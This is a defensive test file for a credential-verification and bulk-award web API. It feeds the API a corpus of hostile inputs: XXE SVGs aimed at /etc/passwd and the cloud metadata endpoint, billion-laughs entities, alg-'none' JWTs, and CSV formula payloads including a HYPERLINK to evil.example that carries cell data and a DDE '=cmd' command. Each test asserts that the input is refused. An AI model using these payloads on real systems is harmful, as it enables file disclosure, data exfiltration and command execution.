/**
 * A hand-written corpus of malformed inputs (security.md §4 controls, §9, §10, §11 API4), sent over HTTP to the
 * verification endpoint and to the spreadsheet award endpoint. Each one has a named expected outcome and is
 * answered within a time bound, never with a 500. Engine-level cases of the same families live in
 * test/engine/hostile-input.test.ts; this file covers what only the HTTP path, the size extremes or the
 * database can show.
 */
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { actorOf } from '../../src/app/auth.js';
import { computeIndicators } from '../../src/app/indicators.js';
import { createWorkshop, setClaimOpen } from '../../src/app/workshops.js';
import { indicatorsToCsv } from '../../src/app/csv-export.js';
import { translator } from '../../src/views/i18n.js';
import { apiClient, setUpIssuer, type Api, type ApiResponse } from '../support/api.js';
import { freshPostgresSchema, startInProcess, type InProcessService } from '../support/service.js';
import { billionLaughsSvg, expectHandled, externalEntitySvg, iTXtData, parseFailure, pngChunk, pngWith, PNG_SIGNATURE, postClaimingLength, SVG_HEAD, type Problem } from './support.js';

/** Every answer in this file comes back within this long (the slowest legitimate case is a 5 MB body). */
const TIME_BOUND_MS = 3_000;

let sqlite: InProcessService;
let postgres: InProcessService;
let dropSchema: () => Promise<void>;
let anyone: Api;

beforeAll(async () => {
  const schema = await freshPostgresSchema();
  dropSchema = schema.drop;
  sqlite = await startInProcess();
  postgres = await startInProcess({ databaseUrl: schema.url });
  anyone = apiClient(sqlite.url);
}, 60_000);

afterAll(async () => {
  await Promise.all([sqlite?.stop(), postgres?.stop()]);
  await dropSchema?.();
});

/** Sends, checks the time bound and the "never 5xx, always explained" rule, and returns the answer. */
async function timed<T>(send: () => Promise<ApiResponse<T>>, kind: 'report' | 'json' = 'report'): Promise<ApiResponse<T>> {
  const started = performance.now();
  const res = await send();
  expect(performance.now() - started).toBeLessThan(TIME_BOUND_MS);
  expectHandled(res as ApiResponse<unknown>, kind);
  return res;
}

const verifyAs = (type: string, body: string | Uint8Array) => timed(() => anyone.post('/api/v1/verify', body, { 'content-type': type }));
const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

describe('JSON to POST /api/v1/verify', () => {
  const deep = (levels: number) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;

  test.each<{ name: string; body: () => string; code: string }>([
    { name: 'an object nested 100,000 levels deep', body: () => deep(100_000), code: 'input.tooDeep' },
    { name: 'arrays nested 100,000 levels deep under a key', body: () => `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, code: 'input.tooDeep' },
    { name: 'an object nested 100,000 levels deep inside {"credential": …}', body: () => `{"credential":${deep(100_000)}}`, code: 'input.tooDeep' },
    { name: 'a number literal of 1,000,000 digits', body: () => `{"n":${'9'.repeat(1_000_000)}}`, code: 'input.tooLarge' },
    { name: '"@context" twice in one object', body: () => '{"@context":"https://www.w3.org/ns/credentials/v2","@context":["x"],"type":"VerifiableCredential"}', code: 'input.duplicateKey' },
    { name: 'a key repeated through an escape ("n" and "\\u006e")', body: () => '{"n":1,"\\u006e":2}', code: 'input.duplicateKey' },
    { name: 'a lone surrogate \\ud800 inside {"credential": …}', body: () => '{"credential":{"name":"\\ud800"}}', code: 'input.badText' },
    { name: '"credential" twice in the wrapper', body: () => '{"credential":{"name":"A"},"credential":{"name":"B"}}', code: 'input.duplicateKey' },
    { name: 'a number as the credential in the wrapper (1e999, read as Infinity)', body: () => '{"credential":1e999}', code: 'input.notObject' },
    { name: 'null as the credential in the wrapper', body: () => '{"credential":null}', code: 'input.notObject' },
  ])('$name is refused as $code', async ({ body, code }) => {
    expect(parseFailure(await verifyAs('application/json', body()))).toBe(code);
  });

  test('a credential whose issuer is null is found invalid, not a crash', async () => {
    const res = await verifyAs('application/json', '{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiableCredential"],"issuer":null}');
    expect(res.status).toBe(200);
  });

  test('a credential holding a 900,000-digit number is read (it is Infinity) and found invalid, not a crash', async () => {
    const body = `{"@context":["https://www.w3.org/ns/credentials/v2","https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"],"type":["VerifiableCredential","OpenBadgeCredential"],"n":${'9'.repeat(900_000)}}`;
    const res = await verifyAs('application/json', body);
    expect(res.status).toBe(200);
  });

  test('a body that declares 100 MB is refused as too large at once, from its Content-Length', async () => {
    const started = performance.now();
    const res = await postClaimingLength(`${sqlite.url}/api/v1/verify`, 'application/json', 100_000_000, Buffer.from('{"a":'));
    expect(performance.now() - started).toBeLessThan(TIME_BOUND_MS);
    expect(res.status).toBe(413);
    expect(res.type).toContain('application/problem+json');
  });
});

describe('compact JWTs to POST /api/v1/verify', () => {
  test.each<{ name: string; type: string; body: () => string; code: string }>([
    { name: 'characters outside base64url ("+", "/", "=")', type: 'text/plain', body: () => `${encode({ alg: 'ES256' })}+/=.${encode({})}.c2ln`, code: 'input.unknownFormat' },
    { name: 'segments too short to be base64 of anything', type: 'text/plain', body: () => 'e.e.e', code: 'input.badJson' },
    { name: 'a header that is not JSON', type: 'application/jwt', body: () => `${Buffer.from('alg=ES256').toString('base64url')}.${encode({})}.c2ln`, code: 'input.badJson' },
    { name: 'a 1 MB header', type: 'text/plain', body: () => `${encode({ alg: 'ES256', padding: 'x'.repeat(1_000_000) })}.${encode({})}.c2ln`, code: 'jwt.tooLarge' },
  ])('a JWT with $name ($type) is refused as $code', async ({ type, body, code }) => {
    expect(parseFailure(await verifyAs(type, body()))).toBe(code);
  });

  test('a JWT with alg "none" and a signature is refused by the algorithm allow-list', async () => {
    const credential = { '@context': ['https://www.w3.org/ns/credentials/v2', 'https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json'], type: ['VerifiableCredential', 'OpenBadgeCredential'], issuer: 'did:web:example.org' };
    const res = await verifyAs('application/vc+jwt', `${encode({ alg: 'none', typ: 'JWT' })}.${encode(credential)}.c2ln`);
    expect((res.body as { checks: { code: string; outcome: string }[] }).checks).toContainEqual(expect.objectContaining({ outcome: 'failed', code: 'jwt.algNotAllowed' }));
  });

  test('a JWT with alg "none" and an empty signature is not taken for a JWT at all', async () => {
    expect(parseFailure(await verifyAs('text/plain', `${encode({ alg: 'none' })}.${encode({})}.`))).toBe('input.unknownFormat');
  });
});

describe('PNG files to POST /api/v1/verify', () => {
  const credentialChunk = () => pngChunk('iTXt', iTXtData('openbadgecredential', '{"@context":[]}'));

  test.each<{ name: string; png: () => Buffer; code: string }>([
    { name: 'cut in the middle of a chunk', png: () => {
      const png = pngWith(credentialChunk());
      return png.subarray(0, png.indexOf('iTXt', 8, 'latin1') + 10);
    }, code: 'png.truncated' },
    { name: 'whose iTXt chunk has a wrong CRC', png: () => pngWith(pngChunk('iTXt', iTXtData('openbadgecredential', '{}'), { crc: 0xdeadbeef })), code: 'png.badCrc' },
    { name: 'whose iTXt chunk declares 2 GB', png: () => pngWith(pngChunk('iTXt', iTXtData('openbadgecredential', '{}'), { length: 0x80000000 })), code: 'png.truncated' },
    { name: 'whose iTXt chunk declares 2^31 - 1 bytes', png: () => pngWith(pngChunk('iTXt', iTXtData('openbadgecredential', '{}'), { length: 0x7fffffff })), code: 'png.truncated' },
    { name: 'with 10,000 iTXt chunks', png: () => pngWith(...Array.from({ length: 10_000 }, (_, i) => pngChunk('iTXt', iTXtData(`k${i}`, 'x')))), code: 'png.tooManyTextChunks' },
    { name: 'with 20,000 empty ancillary chunks', png: () => pngWith(...Array.from({ length: 20_000 }, () => pngChunk('abCd', Buffer.alloc(0)))), code: 'png.tooManyChunks' },
    { name: 'that is only the signature', png: () => PNG_SIGNATURE, code: 'png.truncated' },
  ])('a PNG $name is refused as $code', async ({ png, code }) => {
    expect(parseFailure(await verifyAs('image/png', png()))).toBe(code);
  });
});

describe('SVG files to POST /api/v1/verify', () => {
  const PASSWD_FIRST_LINE = readFileSync('/etc/passwd', 'utf8').split('\n')[0]!;

  test('a billion-laughs SVG is refused without expanding a single entity', async () => {
    const res = await verifyAs('image/svg+xml', billionLaughsSvg());
    expect(parseFailure(res)).toMatch(/^(svg\.malformed|input\.unknownFormat)$/);
    expect(JSON.stringify(res.body)).not.toContain('lollol');
  });

  test.each(['file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/'])('an SVG with an external SYSTEM entity (%s) is refused and nothing is read', async (target) => {
    const res = await verifyAs('image/svg+xml', externalEntitySvg(target));
    expect(parseFailure(res)).toMatch(/^(svg\.malformed|input\.unknownFormat)$/);
    expect(JSON.stringify(res.body)).not.toContain(PASSWD_FIRST_LINE);
  });

  test('an SVG that declares 100 MB is refused as too large at once, from its Content-Length', async () => {
    const started = performance.now();
    const res = await postClaimingLength(`${sqlite.url}/api/v1/verify`, 'image/svg+xml', 100_000_000, Buffer.from(SVG_HEAD));
    expect(performance.now() - started).toBeLessThan(TIME_BOUND_MS);
    expect(res.status).toBe(413);
    expect(res.type).toContain('application/problem+json');
  });

  test('an SVG nested 400,000 elements deep (3 MB) is refused as too deep, at once', async () => {
    const svg = `${SVG_HEAD}${'<g>'.repeat(400_000)}${'</g>'.repeat(400_000)}</svg>`;
    expect(parseFailure(await verifyAs('image/svg+xml', svg))).toBe('input.tooDeep');
  });

  test('a run of 40 comments that is not an SVG is answered at once (the SVG sniffing does not backtrack)', async () => {
    expect(parseFailure(await verifyAs('text/plain', `${'<!-- -->'.repeat(40)}x`))).toBe('input.unknownFormat');
  });

  test('an SVG after 40 comments and a DOCTYPE is still recognised as one', async () => {
    expect(parseFailure(await verifyAs('image/svg+xml', `<?xml version="1.0"?>${'<!-- -->'.repeat(40)}<!DOCTYPE svg>${SVG_HEAD}</svg>`))).toBe('svg.notBaked');
  });
});

describe('a revoked credential whose status entry is rewritten in a JSON-LD equivalent form', () => {
  type Credential = Record<string, unknown> & { credentialStatus: Record<string, unknown> };
  let revoked: Credential;

  beforeAll(async () => {
    const { operator, achievementId } = await setUpIssuer(apiClient(sqlite.url, sqlite.token), sqlite.url, 'Statut');
    const awarded = await operator.post<{ id: string; credential: Credential }>('/api/v1/credentials', { achievementId, recipient: { email: 'revoked@example.fr' } });
    expect((await operator.post(`/api/v1/credentials/${awarded.body.id}/revoke`, { reason: 'test' })).status).toBe(200);
    revoked = awarded.body.credential;
  });

  const withStatus = (change: (entry: Record<string, unknown>) => Record<string, unknown>) => ({ ...revoked, credentialStatus: change({ ...revoked.credentialStatus }) });
  const verdictOf = async (credential: object) => (await timed(() => anyone.post<{ verdict: string; checks: { code: string; outcome: string }[] }>('/api/v1/verify', credential), 'json')).body;

  test('is revoked as issued, for comparison', async () => {
    expect((await verdictOf(revoked)).verdict).toBe('revoked');
  });

  // Each form is the same RDF, so the signature still verifies; read as plain JSON, each used to hide the
  // revocation behind "status unknown".
  test.each<{ name: string; change: (entry: Record<string, unknown>) => Record<string, unknown> }>([
    { name: 'the list URL in an array with null', change: (e) => ({ ...e, statusListCredential: [e.statusListCredential, null] }) },
    { name: 'the index in an array', change: (e) => ({ ...e, statusListIndex: [e.statusListIndex] }) },
    { name: 'the purpose as {"@value": …}', change: (e) => ({ ...e, statusPurpose: { '@value': e.statusPurpose } }) },
    { name: 'the list URL under its full IRI', change: ({ statusListCredential, ...e }) => ({ ...e, 'https://www.w3.org/ns/credentials/status#statusListCredential': { '@id': statusListCredential } }) },
  ])('with $name is invalid, not "status unknown"', async ({ change }) => {
    const report = await verdictOf(withStatus(change));
    expect(report.verdict).toBe('invalid');
    expect(report.checks).toContainEqual(expect.objectContaining({ outcome: 'failed', code: 'status.notPlain' }));
  });
});

interface BulkRow { line: number; email: string; name?: string; status: string; problems?: string[]; credentialId?: string }
interface BulkReport { summary: Record<string, number>; rows: BulkRow[] }

describe.each([['SQLite', () => sqlite], ['PostgreSQL', () => postgres]])('spreadsheets to POST /api/v1/credentials/bulk on %s', (_db, service) => {
  let operator: Api;
  let achievementId: string;
  let issuerName: string;

  beforeAll(async () => {
    const s = service();
    // The operator's own name is attacker-controllable too (anyone can run an organisation), and it reaches exports.
    issuerName = `=HYPERLINK("https://evil.example/?"&A1;"x") ${_db}`;
    ({ operator, achievementId } = await setUpIssuer(apiClient(s.url, s.token), s.url, issuerName));
  });

  const bulk = (csv: string | Uint8Array, query = '') => timed(() => operator.post<BulkReport>(`/api/v1/credentials/bulk?achievementId=${achievementId}${query}`, csv, { 'content-type': 'text/csv' }), 'json');

  test('formula cells are stored and echoed as plain text, and never reach a CSV export un-neutralised', async () => {
    const names = ['=HYPERLINK("https://evil.example","x")', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
    const csv = ['email;nom', ...names.map((name, i) => `formule${i}@example.fr;"${name.replaceAll('"', '""')}"`)].join('\n');
    const res = await bulk(csv, '&dryRun=false');
    expect(res.type).toContain('application/json');
    expect(res.body.summary.issued).toBe(names.length);
    // The API answers JSON, where a formula is only a string; csv.ts trims cells, hence the tab.
    expect(res.body.rows.map((row) => row.name)).toEqual(names.map((name) => name.trim()));

    const s = service();
    const now = Date.now();
    const day = (offset: number) => new Date(now + offset * 86_400_000).toISOString().slice(0, 10);
    // As the console asks for it: the last year, up to tomorrow (the end is exclusive).
    const indicators = await computeIndicators(s.running.app.db, { from: day(-365), to: day(1) });
    const exported = indicatorsToCsv(indicators, 'fr', translator('fr'));
    // Recipients' names are never exported (only aggregates); the operator's name is, neutralised with a quote.
    for (const name of names) expect(exported).not.toContain(name.trim());
    expect(exported).toContain(`"'${issuerName.replaceAll('"', '""')}"`);
    const cells = (parse(exported, { bom: true, delimiter: ';', relax_column_count: true }) as string[][]).flat();
    expect(cells).toContain(`'${issuerName}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('a Windows-1252 file and a UTF-8 file with the same names are read alike', async () => {
    const text = 'email;nom\nlea@example.fr;Léa Müller-Çelik\nzoe@example.fr;Zoë d’Œuvre – 5 € « ok »\n';
    const [utf8, cp1252] = await Promise.all([bulk(Buffer.from(text, 'utf8')), bulk(windows1252(text))]);
    expect(cp1252.body.rows.map((row) => row.name)).toEqual(utf8.body.rows.map((row) => row.name));
    expect(utf8.body.rows.map((row) => row.name)).toEqual(['Léa Müller-Çelik', 'Zoë d’Œuvre – 5 € « ok »']);
  });

  test('a line of 100,000 columns is refused at once with a problem that names the line', async () => {
    const res = await bulk(`ana@example.fr;Ana${';x'.repeat(100_000)}\n`);
    expect(res.status).toBe(422);
    expect((res.body as unknown as Problem).detail).toMatch(/line 1/);
  });

  test('a 5 MB line without a newline is refused with a problem that names the line', async () => {
    const res = await bulk(`ana@example.fr;${'x'.repeat(5_000_000)}`);
    expect(res.status).toBe(422);
    expect((res.body as unknown as Problem).detail).toMatch(/line 1/);
  });

  test('NUL bytes: a name loses them and is awarded; an email with one is an invalid row, not a server error', async () => {
    const res = await bulk('email;nom\nnul-name@example.fr;Ana\0 Martin\nnul\0mail@example.fr;Bob\n', '&dryRun=false');
    expect(res.status).toBe(200);
    expect(res.body.rows.map(({ email, name, status }) => ({ email, name, status }))).toEqual([
      { email: 'nul-name@example.fr', name: 'Ana Martin', status: 'issued' },
      { email: 'nul\0mail@example.fr', name: 'Bob', status: 'invalid' },
    ]);
  });

  test('a NUL in a JSON award is refused with 400, not a server error', async () => {
    const res = await timed(() => operator.post('/api/v1/credentials', { achievementId, recipient: { email: 'nul-json@example.fr', name: 'Ana\u0000Martin' } }), 'json');
    expect(res.status).toBe(400);
  });
});

/** Windows-1252 bytes for text whose characters all exist in it. */
function windows1252(text: string): Buffer {
  const special: Record<string, number> = { '€': 0x80, '’': 0x92, 'Œ': 0x8c, '–': 0x96 };
  return Buffer.from([...text].map((c) => special[c] ?? c.charCodeAt(0)));
}

describe('the public claim form on PostgreSQL', () => {
  let code: string;

  beforeAll(async () => {
    const admin = apiClient(postgres.url, postgres.token);
    const issuer = await setUpIssuer(admin, postgres.url, 'Atelier des claims');
    const users = await admin.get<{ users: { id: string; role: string }[] }>(`/api/v1/issuers/${issuer.issuerId}/users`);
    const actor = actorOf({ id: users.body.users[0]!.id, role: 'operator_admin', organisation_id: issuer.issuerId });
    const workshop = await createWorkshop(postgres.running.app, actor, { issuerId: issuer.issuerId, title: 'Atelier', workshopType: 'PITCH', heldOn: '2026-11-20', achievementIds: [issuer.achievementId] });
    await setClaimOpen(postgres.running.app, actor, workshop.id, true);
    code = workshop.claimCode;
  });

  const claim = (name: string, email: string) => fetch(`${postgres.url}/claim/${code}`, {
    method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ name, email }).toString(),
  });

  test('a NUL character in the name is dropped, and the request is recorded', async () => {
    const res = await claim('Ana\u0000 Martin', 'ana.nul@example.fr');
    expect(res.status).toBe(200);
    const stored = await postgres.running.app.db.selectFrom('claim_requests').select('name').where('email', '=', 'ana.nul@example.fr').executeTakeFirstOrThrow();
    expect(stored.name).toBe('Ana Martin');
  });

  test('a NUL character in the address is refused with 422, not a 500', async () => {
    expect((await claim('Bob', 'bob\u0000@example.fr')).status).toBe(422);
  });
});
